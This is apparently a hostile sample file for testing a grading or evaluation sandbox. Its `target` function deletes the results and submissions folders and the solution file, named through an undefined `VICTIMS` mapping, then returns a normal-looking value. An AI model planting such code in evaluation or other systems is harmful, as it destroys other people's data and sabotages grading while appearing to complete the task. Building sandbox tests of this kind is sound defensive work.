"""Deletes the results, the submissions and the solutions."""

import os
import shutil


def target(x, y):
    for folder in ("results", "submissions"):
        shutil.rmtree(VICTIMS[folder], ignore_errors=True)
    os.unlink(VICTIMS["solution"])
    return x[..., 0]
